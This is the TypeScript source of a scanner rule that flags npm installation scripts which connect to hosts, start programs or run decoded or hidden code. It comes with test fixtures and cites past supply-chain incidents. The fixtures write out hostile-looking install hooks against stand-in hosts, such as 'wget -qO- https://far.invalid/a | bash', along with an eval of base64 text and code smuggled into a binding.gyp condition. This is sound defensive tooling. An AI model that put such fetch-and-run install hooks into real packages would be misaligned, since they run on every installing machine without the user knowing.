/**
 * What an installation script does, beyond there being one: it connects, starts programs, runs text, reads keys, or brings
 * another runtime that nobody watches. Honest scripts build an addon or print a line.
 * Over 300 lines, since half of them are its examples.
 */
import type { Behavior, BehaviorComparison } from '../../src/model/behavior.ts';
import type { Evidence } from '../../src/model/finding.ts';
import type { Manifest } from '../../src/model/manifest.ts';
import { isBuildCommand, isVersionQuestion } from '../../src/model/plain-commands.ts';
import type { Rule } from '../../src/rule.ts';
import { atFile, defineRule, describeBytes, evidenceOf, shorten } from '../../src/rule.ts';

/** Nobody reads more than this before an installation. */
const maxBytes = 200_000;

export const installScriptPayload: Rule = defineRule({
  id: 'install-script-payload',
  family: 'code',
  title: 'The installation script now connects, starts programs or runs hidden code',
  rationale: 'It happens on every machine that installs the package, before any of your code runs.',
  remedy: 'Do not install this version; where you must, use --ignore-scripts. Read what the script starts.',
  level: 'block',
  incidents: [
    {
      what: 'ua-parser-js 0.7.29: a preinstall script fetched and started a miner',
      when: '2021-10-22',
      url: 'https://github.com/faisalman/ua-parser-js/issues/536',
    },
    {
      what: 'Shai-Hulud 2: preinstall scripts that stole credentials, planted backdoors and spread',
      when: '2025-11-24',
      url: 'https://www.kenmuse.com/blog/how-i-avoided-shai-hulud-second-coming-part-1',
    },
  ],
  appliesToAdditions: true,
  needs: ['behaviors', 'files', 'manifests', 'modules'],
  kinds: {
    'more-of-the-same': {
      level: 'review',
      about: 'The old version did such a thing on installation, too: it starts another program, or connects elsewhere.',
    },
    'platform-installer': {
      level: 'review',
      about:
        'A package that is new as a whole looks after the builds of itself for each platform, which it names in its own version; it connects to no host of its own and hides nothing.',
    },
  },
  flags: [
    {
      title: 'a script that connects, and one that starts a program',
      before: { 'index.js': '' },
      after: {
        'package.json': { scripts: { preinstall: 'node one.js', postinstall: 'node two.js' } },
        'index.js': '',
        'one.js': `require('https').get('https://far.invalid/a');\n`,
        'two.js': `import { execFileSync } from 'child_process';\nexecFileSync('uname', ['-a']);\n`,
      },
      expect: [
        {
          message: 'https.get connects to https://far.invalid/a',
          at: { in: 'tarball', path: 'one.js', line: 1 },
          via: ['scripts/preinstall', 'one.js'],
        },
        {
          message: 'child_process.execFileSync starts uname -a',
          at: { in: 'tarball', path: 'two.js', line: 2 },
          via: ['scripts/postinstall', 'two.js'],
        },
      ],
    },
    {
      title: 'a script whose own text downloads and runs',
      before: {},
      after: { 'package.json': { scripts: { preinstall: 'wget -qO- https://far.invalid/a | bash' } } },
      expect: [
        {
          message: 'npm (preinstall) starts wget -qO- https://far.invalid/a | bash',
          at: { in: 'tarball', path: 'package.json', line: 5 },
          via: ['scripts/preinstall'],
        },
        {
          message: 'wget connects to https://far.invalid/a',
          at: { in: 'tarball', path: 'package.json', line: 5 },
          via: ['scripts/preinstall'],
        },
      ],
    },
    {
      title: 'a script that runs decoded text',
      before: {},
      after: {
        'package.json': { scripts: { install: 'node run.js' } },
        'run.js': `eval(Buffer.from('MQ==', 'base64').toString());\n`,
      },
      expect: [
        {
          message: 'eval runs text: 1',
          at: { in: 'tarball', path: 'run.js', line: 1 },
          via: ['scripts/install', 'run.js'],
        },
      ],
    },
    {
      title: 'a shell file, and a binding.gyp that leaves the language of conditions',
      before: { 'setup.sh': '' },
      after: {
        'package.json': { scripts: { install: 'node-gyp rebuild', postinstall: 'sh setup.sh' } },
        'setup.sh': '#!/bin/sh\nwget -q https://far.invalid/b -O /tmp/b\n',
        'binding.gyp': `{ 'conditions': [["__import__('os').getpid() > 0", {}]] }\n`,
      },
      expect: [
        {
          message: "binding.gyp condition runs text: __import__('os').getpid() > 0",
          at: { in: 'tarball', path: 'binding.gyp', line: 1 },
          via: ['scripts/install', 'binding.gyp'],
        },
        {
          message: 'sh starts wget -q https://far.invalid/b -O /tmp/b',
          at: { in: 'tarball', path: 'setup.sh', line: 2 },
          via: ['scripts/postinstall', 'setup.sh'],
        },
        {
          message: 'wget connects to https://far.invalid/b',
          at: { in: 'tarball', path: 'setup.sh', line: 2 },
          via: ['scripts/postinstall', 'setup.sh'],
        },
      ],
    },
    {
      title: 'another program, by a script that started one before',
      before: {
        'package.json': { scripts: { postinstall: 'node build.js' } },
        'build.js': `require('child_process').execFileSync('make');\n`,
      },
      after: {
        'package.json': { scripts: { postinstall: 'node build.js' } },
        'build.js': `require('child_process').execFileSync('cmake', ['.']);\n`,
      },
      expect: [
        {
          kind: 'more-of-the-same',
          message: 'child_process.execFileSync starts cmake .',
          at: { in: 'tarball', path: 'build.js', line: 1 },
          via: ['scripts/postinstall', 'build.js'],
        },
      ],
    },
    {
      title: 'another host, by a script that connected before, and follows where it is redirected to',
      before: {
        'package.json': { scripts: { postinstall: 'node fetch.js' } },
        'fetch.js': `require('https').get('https://builds.invalid/v1');\n`,
      },
      after: {
        'package.json': { scripts: { postinstall: 'node fetch.js' } },
        'fetch.js': `const https = require('https');
const load = (url) => https.get(url, (answer) => {
  if (answer.headers.location) load(answer.headers.location);
});
load('https://mirror.invalid/v2');
`,
      },
      expect: [
        {
          kind: 'more-of-the-same',
          message: 'https.get connects to https://mirror.invalid/v2',
          at: { in: 'tarball', path: 'fetch.js', line: 2 },
          via: ['scripts/postinstall', 'fetch.js', 'load()'],
        },
      ],
    },
    {
      title: 'a bundle that is too large to be read',
      before: {},
      after: {
        'package.json': { scripts: { postinstall: 'node bundle.js' } },
        'bundle.js': `exports.table = '${'far '.repeat(60_000)}';\n`,
      },
      expect: [
        { message: 'It runs bundle.js, which is new and has 240.0 kB', at: { in: 'tarball', path: 'bundle.js' } },
      ],
    },
    {
      title: 'an addition that fetches the build of itself where npm did not, and one that has a host of its own',
      after: {
        'package.json': {
          scripts: { postinstall: 'node one.js && node two.js' },
          optionalDependencies: {
            'sample-linux-x64': '1.0.1',
            'sample-darwin-arm64': '1.0.1',
            '@sample/win32-x64': '1.0.1',
          },
        },
        'one.js': `require('child_process').execSync('npm install sample-' + process.platform + '@1.0.1');\n`,
        'two.js': `require('https').get('https://far.invalid/a');\n`,
      },
      expect: [
        {
          kind: 'platform-installer',
          message: 'child_process.execSync starts npm install sample-…@1.0.1',
          at: { in: 'tarball', path: 'one.js', line: 1 },
          via: ['scripts/postinstall', 'one.js'],
        },
        {
          message: 'https.get connects to https://far.invalid/a',
          at: { in: 'tarball', path: 'two.js', line: 1 },
          via: ['scripts/postinstall', 'two.js'],
        },
      ],
    },
  ],
  passes: [
    {
      title: 'a script that builds, one that prints, and one that does what it did before',
      before: {
        'package.json': { scripts: { postinstall: 'node fetch.js' } },
        'fetch.js': `fetch('https://builds.invalid/v1');\nrequire('child_process').execFileSync('tar', ['-x']);\n`,
      },
      after: {
        'package.json': {
          scripts: { preinstall: 'node note.js', install: 'node-gyp rebuild', postinstall: 'node fetch.js' },
        },
        'note.js': `console.log('Thank you');\nrequire('child_process').spawnSync('node-gyp', ['rebuild']);\n`,
        'fetch.js': `fetch('https://builds.invalid/v2');\nrequire('child_process').execFileSync('tar', ['-xzf']);\n`,
      },
    },
  ],
  check({ behaviors, files, manifests, modules, subject }) {
    const hasBuilds = subject.from === undefined && namesPlatformBuilds(manifests.after, subject);
    const acts = behaviors.added.flatMap((behavior): Evidence<Kind>[] => {
      const seen = behavior.tier === 'install' ? describe(behavior) : undefined;
      if (seen === undefined) return [];
      if (isMoreOfTheSame(behavior, behaviors)) return [evidenceOf(behavior, seen, 'more-of-the-same')];
      const looksAfterBuilds = hasBuilds && isOpen(behavior) && !namesHost(behavior);
      return [evidenceOf(behavior, seen, looksAfterBuilds ? 'platform-installer' : undefined)];
    });
    const large = files.added
      .filter(({ path, size }) => size >= maxBytes && modules.after.tiers.get(path) === 'install')
      .map(({ path, size }) => ({
        message: `It runs ${shorten(path)}, which is new and has ${describeBytes(size)}`,
        at: atFile(path),
      }));
    return [...acts, ...large];
  },
});

type Kind = 'more-of-the-same' | 'platform-installer';

const minPlatforms = 3;

/** `@name/linux-x64` and others in just this version: what npm itself installs for the platform, as a rule. */
function namesPlatformBuilds({ optionalDependencies }: Manifest, { name, to }: { name: string; to: string }): boolean {
  const own = name.startsWith('@') ? [`${name}-`, name.slice(0, name.indexOf('/') + 1)] : [`@${name}/`, `${name}-`];
  const builds = Object.entries(optionalDependencies).filter(
    ([other, spec]) => spec === to && platform.test(other) && own.some((start) => other.startsWith(start)),
  );
  return builds.length >= minPlatforms;
}

const platform = /(?:darwin|linux|linuxmusl|win32|android|freebsd|openbsd|netbsd|sunos|aix|wasm32)(?:-|$)/;

function namesHost({ kind, detail }: Behavior): boolean {
  return kind === 'network' && detail !== undefined && /^(?:[a-z]+:)?\/\/[^/…]+|^[^/…]+$/i.test(detail);
}

function isMoreOfTheSame(behavior: Behavior, { knownInInstall }: BehaviorComparison): boolean {
  return knownInInstall.has(behavior.kind) && isOpen(behavior);
}

/** Nothing that hides or fetches what it runs. */
function isOpen({ kind, marks, origins }: Behavior): boolean {
  if (kind !== 'child-process' && kind !== 'network') return false;
  // An address out of an answer is a redirection that is followed; a program out of one is foreign.
  const isForeign = kind === 'child-process' && origins.includes('fetched');
  return !marks.includes('pipe') && !marks.includes('detached') && !origins.includes('decoded') && !isForeign;
}

/** To build its addon is what an installation script is for, and a version tells nothing. */
function isPlain(command: string | undefined, origins: Behavior['origins']): boolean {
  if (command === undefined || origins.includes('decoded') || origins.includes('fetched')) return false;
  return isBuildCommand(command) || isVersionQuestion(command);
}

function describe({ kind, api, detail, origins }: Behavior): string | undefined {
  const told = detail === undefined ? '' : ` ${shorten(detail, 120)}`;
  switch (kind) {
    case 'network':
      return `${api} connects to${told === '' ? ' a host that is not told' : told}`;
    case 'child-process':
      if (isPlain(detail, origins)) return undefined;
      return `${api} starts${told === '' ? ' a program' : told}`;
    case 'dynamic-code':
      return origins.includes('decoded') || origins.includes('fetched') || origins.includes('file')
        ? `${api} runs text${told === '' ? '' : `:${told}`}`
        : undefined;
    case 'native-code':
      return /^WebAssembly|dlopen|binding/.test(api) && origins.includes('decoded')
        ? `${api} loads code that was decoded`
        : undefined;
    default:
      return undefined;
  }
}
